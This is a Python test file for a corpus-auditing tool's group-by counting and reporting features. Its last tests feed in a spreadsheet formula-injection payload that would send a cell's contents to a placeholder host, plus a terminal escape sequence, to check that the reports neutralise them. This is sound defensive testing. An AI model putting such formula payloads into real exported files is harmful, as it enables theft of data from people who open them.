"""scan --group-by / report --group-by, --top-groups, --top-hosts (issue 11 item 5): per-group
counts in the same additive partials, exact across workers, slices and resumes; the report's
per-group sections, "other", and the hosts ranked by PII density."""

import csv
import io
import json
import random
from collections import Counter
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

from llama_audit import groups, partials
from llama_audit.cli import command
from llama_audit.report.section import wilson_ci95

ANALYZERS = "language,pronouns,identities,pii"
SOURCES = ["web", "books", "code", "forum/a", "news"]
TEXTS = ["She went home and he stayed. I am a gay man.", "Call me at 555-123-4567 or mail bob@example.com",
         "The quick brown fox jumps over the lazy dog.", "You are a Christian woman from France, they said.",
         "Der schnelle braune Fuchs springt über den faulen Hund."]
URLS = ["https://www.Example.com/a", "http://blog.example.com/x", "https://forum.test./t/1", "no host here", None]

runner = CliRunner()


def invoke(*args):
    return runner.invoke(command(), [str(a) for a in args])


def corpus(root: Path, shards: int = 4, docs: int = 60, seed: int = 7) -> Path:
    """Shards of mixed sources; some records lack ``source``, some have it null."""
    rng = random.Random(seed)
    root.mkdir(parents=True, exist_ok=True)
    for s in range(shards):
        with open(root / f"part-{s}.jsonl", "w") as f:
            for i in range(docs):
                rec = {"id": f"{s}-{i}", "text": rng.choice(TEXTS), "url": rng.choice(URLS)}
                kind = rng.random()
                if kind < 0.8:
                    rec["source"] = rng.choice(SOURCES)
                elif kind < 0.9:
                    rec["source"] = None
                f.write(json.dumps(rec) + "\n")
    return root


def scan(corpus_dir: Path, out: Path, *extra, check: bool = True):
    res = invoke("scan", corpus_dir, "--out", out, "--analyzers", ANALYZERS, "--languages", "all", "--quiet", *extra)
    if check:
        assert res.exit_code == 0, res.output
    return res


def summary(out: Path):
    return partials.merge_files([out / "summary" / "counts.parquet"])


@pytest.fixture(scope="module")
def scanned(tmp_path_factory):
    root = tmp_path_factory.mktemp("grouped")
    data = corpus(root / "corpus")
    scan(data, root / "plain")
    scan(data, root / "grouped", "--group-by", "source")
    return data, root


# -- counting -----------------------------------------------------------------------------------

def test_group_totals_equal_the_ungrouped_numbers(scanned):
    data, root = scanned
    plain, grouped = summary(root / "plain"), summary(root / "grouped")
    assert pq.read_schema(next((root / "plain" / "partials").glob("*.parquet"))).remove_metadata() == partials.SCHEMA
    assert grouped.schema == partials.GROUPED_SCHEMA
    overall = partials.from_table(grouped)
    assert overall == partials.from_table(plain)  # the overall rows do not move
    summed: dict[str, Counter] = {}
    for by_analyzer in partials.groups_from_table(grouped).values():
        for name, c in by_analyzer.items():
            summed.setdefault(name, Counter()).update(c)
    for name in ("language", "pronouns", "identities"):
        assert summed[name] == overall[name], name
    for key in ("documents", "documents_with_pii"):  # pii's own columns (ids are counted overall only)
        assert summed["pii"][key] == overall["pii"][key]
    corpus_sum = {k: summed["corpus"][k] for k in ("documents", "chars", "bytes", "in_scope_documents")}
    assert corpus_sum == {k: overall["corpus"][k] for k in corpus_sum}


def test_a_missing_or_null_field_is_counted_under_the_sentinel(scanned):
    data, root = scanned
    expected = Counter()
    for path in sorted(data.glob("*.jsonl")):
        for line in path.read_text().splitlines():
            expected[json.loads(line).get("source") or groups.MISSING] += 1
    got = {g: c["corpus"]["documents"] for g, c in partials.groups_from_table(summary(root / "grouped")).items()}
    assert got == dict(expected) and expected[groups.MISSING] > 0


def test_one_worker_two_workers_and_two_slices_merge_to_the_same_bytes(scanned, tmp_path):
    data, root = scanned
    scan(data, tmp_path / "pool", "--group-by", "source", "--workers", "2")
    for i in range(2):
        scan(data, tmp_path / "slices", "--group-by", "source", "--num-shards", "2", "--shard-index", i)
    assert invoke("merge", tmp_path / "slices").exit_code == 0
    want = (root / "grouped" / "summary" / "counts.parquet").read_bytes()
    for name in ("pool", "slices"):
        assert (tmp_path / name / "summary" / "counts.parquet").read_bytes() == want, name


def test_resume_after_a_kill_keeps_exact_group_counts(scanned, tmp_path):
    data, root = scanned
    out = tmp_path / "o"
    scan(data, out, "--group-by", "source")
    killed = sorted((out / "done").glob("*.json"))[1]  # killed after its partial, before its done marker
    killed.unlink()
    (out / "summary" / "counts.parquet").unlink()
    res = scan(data, out, "--group-by", "source", "-q")
    assert res.exit_code == 0
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["totals"]["shards_done"] == 4 and manifest["totals"].get("shards_damaged", 0) == 0
    assert len(manifest["runs"][-1:]) == 1 and manifest["runs"][-1]["shards_scanned"] == 1  # the others resumed
    assert (out / "summary" / "counts.parquet").read_bytes() == (root / "grouped" / "summary" / "counts.parquet").read_bytes()


def test_group_by_is_part_of_the_locked_configuration(scanned, tmp_path):
    data, root = scanned
    res = scan(data, root / "grouped", "--group-by", "url", check=False)
    assert res.exit_code == 2 and "--overwrite" in res.output
    config = json.loads((root / "plain" / "config.json").read_text())
    assert "group_by" not in json.dumps(config)  # an ungrouped scan keeps its configuration (and hash)


def test_a_field_that_no_record_has_is_a_one_line_error(tmp_path):
    data = corpus(tmp_path / "c", shards=2, docs=10)
    res = scan(data, tmp_path / "o", "--group-by", "sorce", check=False)
    assert res.exit_code == 2, res.output
    lines = [line for line in res.stderr.splitlines() if "sorce" in line]
    assert len(lines) == 1 and "no record has field 'sorce'" in lines[0] and "Traceback" not in res.output


@pytest.mark.parametrize("spec", ["", "a..b", "host(", "meta.(x)", "a b"])
def test_a_malformed_group_by_is_refused_before_work(tmp_path, spec):
    data = corpus(tmp_path / "c", shards=1, docs=3)
    res = scan(data, tmp_path / "o", "--group-by", spec, check=False)
    assert res.exit_code == 2 and "--group-by" in res.stderr and not (tmp_path / "o" / "partials").exists()


def test_host_groups_and_value_bounds():
    by_host = groups.GroupBy.parse("host(url)")
    assert by_host.host and by_host.path == "url"
    assert by_host.value("https://WWW.Example.COM./a?b") == "example.com"
    assert by_host.value("blog.example.com/x") == "blog.example.com"
    assert by_host.value("no host here") == groups.NO_HOST and by_host.value(None) == groups.MISSING
    by_source = groups.GroupBy.parse("meta.source")
    assert by_source.value(5) == by_source.value("5") == "5"
    long = by_source.value("x" * 500)
    assert len(long) == groups.MAX_VALUE_CHARS + len(groups.TRUNCATED) and long.endswith(groups.TRUNCATED)


def test_nested_field_paths_group_like_top_level_ones(tmp_path, make_jsonl):
    make_jsonl("a.jsonl", [{"text": "She is here.", "meta": {"source": "web"}}, {"text": "He is.", "meta": {}},
                           {"text": "They are.", "meta": {"source": "books"}}])
    out = tmp_path / "o"
    res = invoke("scan", tmp_path / "corpus", "--out", out, "--analyzers", "pronouns", "--languages", "all", "-q",
                 "--group-by", "meta.source")
    assert res.exit_code == 0, res.output
    got = {g: c["corpus"]["documents"] for g, c in partials.groups_from_table(summary(out)).items()}
    assert got == {"web": 1, "books": 1, groups.MISSING: 1}


# -- reporting ----------------------------------------------------------------------------------

def report(out: Path, *args) -> str:
    res = invoke("report", out, *args)
    assert res.exit_code == 0, res.output
    return res.stdout


def test_json_shape_every_section_per_group_and_other_sums_exactly(scanned):
    data, root = scanned
    plain = json.loads(report(root / "grouped", "-f", "json"))
    data_ = json.loads(report(root / "grouped", "-f", "json", "--group-by", "source", "--top-groups", "2"))
    assert data_["group_by"] == {"field": "source", "groups": 6, "top_groups": 2, "shown": 2, "in_other": 4}
    assert {k: v for k, v in data_.items() if k not in ("group_by", "groups", "other", "provenance")} == \
        {k: v for k, v in plain.items() if k != "provenance"}
    sections = {k for k, v in plain.items() if k not in ("corpus", "provenance") and v.get("status") != "skipped"}
    counts = partials.groups_from_table(summary(root / "grouped"))
    by_docs = sorted(counts, key=lambda g: (-counts[g]["corpus"]["documents"], g))
    assert list(data_["groups"]) == by_docs[:2]
    for part in [*data_["groups"].values(), data_["other"]]:
        assert set(part) == sections | {"corpus"}
    rest: dict[str, Counter] = {}
    for g in by_docs[2:]:
        for name, c in counts[g].items():
            rest.setdefault(name, Counter()).update(c)
    other = data_["other"]
    assert other["corpus"]["documents"] == rest["corpus"]["documents"]
    assert other["pii"]["documents_with_pii"] == rest["pii"]["documents_with_pii"]
    assert sum(p["corpus"]["documents"] for p in [*data_["groups"].values(), other]) == plain["corpus"]["documents"]
    everything = json.loads(report(root / "grouped", "-f", "json", "--group-by", "source", "--top-groups", "100"))
    assert everything["other"] is None and len(everything["groups"]) == 6


def test_report_group_by_must_name_the_scanned_field(scanned):
    data, root = scanned
    res = invoke("report", root / "grouped", "--group-by", "url")
    assert res.exit_code == 2 and "'source'" in res.stderr and len(res.stderr.strip().splitlines()) == 1
    res = invoke("report", root / "plain", "--group-by", "source")
    assert res.exit_code == 2 and "without --group-by" in res.stderr


def test_control_characters_in_group_values_are_shown_literally(tmp_path, make_jsonl):
    evil = "site\x1b[31m\nred"
    make_jsonl("a.jsonl", [{"text": "She is here.", "source": evil}, {"text": "He is.", "source": "ok"}])
    out = tmp_path / "o"
    assert invoke("scan", tmp_path / "corpus", "--out", out, "--analyzers", "pronouns", "--languages", "all", "-q",
                  "--group-by", "source").exit_code == 0
    for fmt in ("table", "md", "html", "csv"):
        text = report(out, "-f", fmt, "--group-by", "source", "--no-figures")
        assert "\x1b" not in text and "site\\x1b[31m\\x0ared" in text, fmt
    data = json.loads(report(out, "-f", "json", "--group-by", "source"))
    assert evil in data["groups"]  # JSON keeps the exact value (escaped by JSON itself)


def test_csv_rows_name_their_group(scanned):
    data, root = scanned
    rows = list(csv.DictReader(io.StringIO(report(root / "grouped", "-f", "csv", "--group-by", "source",
                                                  "--top-groups", "1"))))
    cells = {r["group_value"] for r in rows}
    top = next(iter(json.loads(report(root / "grouped", "-f", "json", "--group-by", "source",
                                      "--top-groups", "1"))["groups"]))
    assert cells == {"", top, "(other)"}
    docs = {r["group_value"]: int(r["documents"]) for r in rows if r["table"] == "corpus" and r["label"] == "documents"}
    assert docs[top] + docs["(other)"] == docs[""]


def test_top_hosts_ranks_by_the_low_end_of_the_interval(tmp_path, make_jsonl):
    phone = "Call me at 555-123-4567 tomorrow."
    records = ([{"text": phone, "url": "https://tiny.example/1"}]  # 1 of 1: dense but uncertain
               + [{"text": phone if i % 2 else "Nothing here.", "url": f"https://www.big.example/{i}"} for i in range(200)]
               + [{"text": "Nothing here.", "url": "https://clean.example/"} for _ in range(50)]
               + [{"text": phone, "url": "not a url"}])
    make_jsonl("a.jsonl", records)
    out = tmp_path / "o"
    res = invoke("scan", tmp_path / "corpus", "--out", out, "--analyzers", "pii", "--languages", "all", "-q",
                 "--group-by", "host(url)")
    assert res.exit_code == 0, res.output
    data = json.loads(report(out, "-f", "json", "--top-hosts", "2"))
    hosts = data["top_hosts"]["hosts"]
    assert [h["host"] for h in hosts] == ["big.example", "tiny.example"] and data["top_hosts"]["hosts_ranked"] == 3
    big = hosts[0]
    assert big["documents"] == 200 and big["per_thousand"] == 1000.0 * big["flagged"] / 200
    assert big["per_thousand_ci95"] == pytest.approx([10 * x for x in wilson_ci95(big["flagged"], 200)])
    assert "big.example" in report(out, "--top-hosts", "2", "-f", "md")
    res = invoke("report", tmp_path / "nope", "--top-hosts", "2")
    assert res.exit_code == 2


def test_top_hosts_needs_a_host_grouping(scanned):
    data, root = scanned
    res = invoke("report", root / "grouped", "--top-hosts", "5")
    assert res.exit_code == 2 and "host(url)" in res.stderr and len(res.stderr.strip().splitlines()) == 1


class _LengthBins:
    """A stub analyzer that runs in the background thread (``overlaps``, like a GPU model) and
    reads an earlier column and the scope gate in its fold: the per-group fold must cut both."""

    @staticmethod
    def make():
        import pyarrow as pa
        import pyarrow.compute as pc

        from llama_audit.analyzers.base import Analyzer

        class LengthBins(Analyzer):
            name = "lengthbins"

            def fields(self):
                return [pa.field("len_bin", pa.int64())]

            def overlaps(self):
                return True

            def annotate(self, batch, ctx):
                return {"len_bin": pa.array([len(t) // 10 for t in batch.texts], pa.int64())}

            def fold(self, columns, ctx):
                out = Counter(f"bin/{v}" for v in columns["len_bin"].to_pylist())
                out["chars"] = int(pc.sum(ctx.columns["chars"]).as_py() or 0)
                out["in_scope"] = int(ctx.in_scope.sum())
                return out

        return LengthBins()


def test_background_analyzers_are_folded_per_group_too(tmp_path):
    from llama_audit.corpus import discover
    from llama_audit.scan import ReadOptions, Scope, scan_shard
    from llama_audit.store import OutDir

    data = corpus(tmp_path / "c", shards=1, docs=50)
    shard = discover([str(data)])[0]
    out = OutDir(tmp_path / "o")
    for d in (out.annotations, out.partials, out.done):
        d.mkdir(parents=True, exist_ok=True)
    scan_shard(shard, [_LengthBins.make()], Scope(("all",)), out,
               ReadOptions(batch_docs=7, group_by="source"))
    table = pq.read_table(out.partial_path(shard.key))
    overall = partials.from_table(table)["lengthbins"]
    summed = Counter()
    for by in partials.groups_from_table(table).values():
        summed.update(by["lengthbins"])
    assert summed == overall and overall["in_scope"] == 50 and overall["chars"] > 0


def test_the_language_gate_is_cut_per_group(scanned, tmp_path):
    data, root = scanned
    out = tmp_path / "en"
    res = invoke("scan", data, "--out", out, "--analyzers", "language,pronouns,identities", "--quiet",
                 "--group-by", "source")
    assert res.exit_code == 0, res.output
    table = summary(out)
    overall = partials.from_table(table)
    summed: dict[str, Counter] = {}
    for by in partials.groups_from_table(table).values():
        for name, c in by.items():
            summed.setdefault(name, Counter()).update(c)
    assert 0 < overall["corpus"]["in_scope_documents"] < overall["corpus"]["documents"]
    assert summed["corpus"]["in_scope_documents"] == overall["corpus"]["in_scope_documents"]
    assert summed["pronouns"] == overall["pronouns"] and summed["identities"] == overall["identities"]


def test_group_options_do_not_combine_with_against(scanned):
    data, root = scanned
    res = invoke("report", root / "grouped", "--against", root / "plain", "--group-by", "source")
    assert res.exit_code == 2 and "--against" in res.stderr


def test_report_options_that_would_be_ignored_are_refused(scanned):
    data, root = scanned
    for args in (("--top-groups", "3"), ("--against", root / "grouped", "--top-groups", "3"),
                 ("--against", root / "grouped", "--no-figures")):
        res = invoke("report", root / "grouped", *args)
        assert res.exit_code == 2 and len(res.stderr.strip().splitlines()) == 1, (args, res.stderr)


def test_a_group_value_that_reads_as_a_spreadsheet_formula_is_written_as_text(tmp_path, make_jsonl):
    """Group values come from the corpus: a cell such as ``=HYPERLINK(...)`` would run when the
    CSV is opened in a spreadsheet. It gets a leading ``'``; negative numbers stay numbers."""
    formula = '=HYPERLINK("http://x.test/?"&A1,"click")'
    make_jsonl("a.jsonl", [{"text": "She is here.", "source": formula}, {"text": "He is.", "source": "-12"},
                           {"text": "They are.", "source": "@SUM(1)"}])
    out = tmp_path / "o"
    assert invoke("scan", tmp_path / "corpus", "--out", out, "--analyzers", "pronouns", "--languages", "all", "-q",
                  "--group-by", "source").exit_code == 0
    text = report(out, "-f", "csv", "--group-by", "source")
    cells = {r["group_value"] for r in csv.DictReader(io.StringIO(text))}
    assert {"'" + formula, "-12", "'@SUM(1)"} <= cells, cells
    every = [c for row in csv.reader(io.StringIO(text)) for c in row]
    assert not [c for c in every if c.startswith(("=", "+", "@"))], [c for c in every if c[:1] in "=+@"]
